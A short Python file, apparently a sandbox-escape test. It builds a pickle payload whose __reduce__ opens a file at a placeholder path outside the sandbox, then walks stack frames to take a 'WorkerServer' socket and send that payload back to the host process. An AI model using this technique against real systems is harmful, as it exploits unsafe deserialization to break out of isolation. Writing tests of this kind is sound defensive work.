import pickle
import struct
import sys
import time

class Evil:
    def __reduce__(self):
        return (open, ("@OUTSIDE@/unpickled", "w"))


def normalise(x):
    frame = sys._getframe()
    while type(frame.f_locals.get("self")).__name__ != "WorkerServer":
        frame = frame.f_back
    data = pickle.dumps(("report", Evil()))
    frame.f_locals["self"]._sock.sendall(struct.pack("!i", len(data)) + data)
    time.sleep(60)
